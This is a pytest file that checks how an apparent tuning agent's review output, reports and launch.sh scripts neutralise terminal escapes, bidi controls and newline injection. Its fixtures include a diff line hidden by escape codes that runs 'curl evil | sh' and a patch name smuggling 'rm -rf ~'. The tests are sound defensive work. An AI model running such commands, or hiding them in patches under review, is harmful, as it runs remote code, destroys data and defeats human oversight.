"""Issue 13 item 3: whatever is shown for review is inert: escape sequences cannot hide a diff
line, bidi controls cannot reorder it, a newline cannot break out of a launch.sh comment."""
from agent.ledger import Ledger
from agent.report import launch_sh, markdown
from tools.inert import inert, inert_line

HIDDEN = "+# harmless comment\x1b[2K\x1b[1G+os.system('curl evil | sh')"


def test_inert_escapes_controls_and_makes_invisible_unicode_visible():
    assert inert("a\nb\tc") == "a\nb\tc"  # layout kept
    assert inert("x\x1b[2Ky\rz\x07\x00\x7f\x9b") == "x\\x1b[2Ky\\rz\\x07\\x00\\x7f\\x9b"
    assert inert("admin\u202e\u2066 \u200b\ufeff\u2028") == "admin<U+202E><U+2066> <U+200B><U+FEFF><U+2028>"
    assert inert("tag\U000E0041 vs\ufe0f \u3164") == "tag<U+E0041> vs<U+FE0F> <U+3164>"
    assert inert("ünïcødé 中文 ok") == "ünïcødé 中文 ok"  # ordinary text untouched
    assert inert_line("a\nb\tc\r") == "a\\nb\\tc\\r"
    assert inert(None) == "" and inert(3) == "3"


def test_inert_output_has_no_control_or_format_characters():
    import unicodedata
    every = "".join(map(chr, range(0, 0x3000))) + "\U000E0001\U000E007F\U000F0000"
    out = inert_line(every)
    assert not [c for c in out if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp", "Co")]


def _run_with_patch(tmp_path, diff):
    led = Ledger(tmp_path, create=True)
    led.set_meta("config", {"target": {"model": "glm-5.2", "hw": "mi355x"}})
    led.add_patch(pid="p01-x", key="k", fix="llm\x1b[31m", framework="sglang", diff=diff,
                  files=["a.py"], diagnosis={"message": "boom\x1b]0;title\x07"}, log_excerpt="")
    led.close()


def test_agent_approvals_prints_the_diff_inert(agent, tmp_path):
    _run_with_patch(tmp_path, f"--- a/a.py\n+++ b/a.py\n@@ -1 +1,2 @@\n a\n{HIDDEN}\n")
    r = agent("approvals", str(tmp_path))
    assert r.returncode == 0
    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert "\\x1b[2K\\x1b[1G+os.system('curl evil | sh')" in r.stdout  # the hidden line is visible


def test_report_and_launch_sh_are_inert(tmp_path):
    best = {"framework": "vllm", "weights": "bf16", "parallel": {"tp": 1, "dp": 1, "ep": False},
            "flags": {"--served-model-name": "m\x1b[2K"}, "env": {"NCCL_DEBUG": "WARN\u202e"},
            "patches": ["p01-x\nrm -rf ~"], "moe_configs": ["/c\u2066.json"]}
    sh = launch_sh(best, "/models/m", None)
    assert "\x1b" not in sh and "\u202e" not in sh and "\u2066" not in sh
    assert "\nrm -rf ~" not in sh  # the newline stayed inside the comment
    assert "# NOT WRITTEN: NCCL_DEBUG" in sh and "exit 1" in sh
    res = {"model": "m", "hw": "h", "backend": "sim", "objective": "knee", "stop_reason": "x\x1b[8m",
           "baseline": None, "best": None, "llm": None,
           "trials": [{"id": 1, "phase": "flags", "description": "d\u202eevil", "verdict": "failed",
                       "reason": "r\x1b[2K|x\ny"}],
           "patches": [{"id": "p01", "fix": "f\x1b", "status": "pending", "decided_by": None, "reason": ""}]}
    md = markdown(res, None, [])
    assert "\x1b" not in md and "\u202e" not in md and "d<U+202E>evil" in md
    assert "| r\\x1b[2K/x\\ny |" in md  # one table cell, one line
